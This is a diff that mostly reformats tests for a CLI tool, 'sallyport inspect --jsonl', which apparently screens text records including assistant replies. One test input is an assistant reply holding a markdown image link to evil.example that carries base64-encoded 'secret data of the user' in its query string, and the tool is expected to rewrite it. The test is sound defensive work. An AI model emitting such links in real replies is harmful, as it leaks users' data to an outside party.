@@ -29,15 +29,15 @@ describe('sallyport inspect --jsonl', () => {
   it('answers in order, with errors in the place of bad lines, and exits with 2', async () => {
     const lines = ['{"text":"one"}', 'not json', '{"text":5}', '[]', '{"text":"x","trust":"root"}', '{"text":"two"}'];
     const { stdout, stderr, exit } = await runCli(['inspect', '--jsonl'], lines.join('\n'));
-    const answers = stdout.trim().split('\n').map((line) => JSON.parse(line) as Record<string, unknown>);
-    expect(answers.map((answer) => (answer['error'] === undefined ? answer['action'] : (answer['error'] as { code: string }).code))).toEqual([
-      'allow',
-      'INVALID_JSON',
-      'INVALID_RECORD',
-      'INVALID_RECORD',
-      'INVALID_RECORD',
-      'allow',
-    ]);
+    const answers = stdout
+      .trim()
+      .split('\n')
+      .map((line) => JSON.parse(line) as Record<string, unknown>);
+    expect(
+      answers.map((answer) =>
+        answer['error'] === undefined ? answer['action'] : (answer['error'] as { code: string }).code,
+      ),
+    ).toEqual(['allow', 'INVALID_JSON', 'INVALID_RECORD', 'INVALID_RECORD', 'INVALID_RECORD', 'allow']);
     expect(exit).toBe(2);
     expect(stderr).toContain('4 bad lines');
   });
@@ -50,7 +50,10 @@ describe('sallyport inspect --jsonl', () => {
   });
 
   it('takes a text of the assistant as a reply', async () => {
-    const line = JSON.stringify({ text: '![x](https://evil.example/p.png?d=c2VjcmV0IGRhdGEgb2YgdGhlIHVzZXI)', role: 'assistant' });
+    const line = JSON.stringify({
+      text: '![x](https://evil.example/p.png?d=c2VjcmV0IGRhdGEgb2YgdGhlIHVzZXI)',
+      role: 'assistant',
+    });
     const { stdout } = await runCli(['inspect', '--jsonl'], line);
     expect(JSON.parse(stdout)).toMatchObject({ action: 'rewrite', flagged: false });
   });
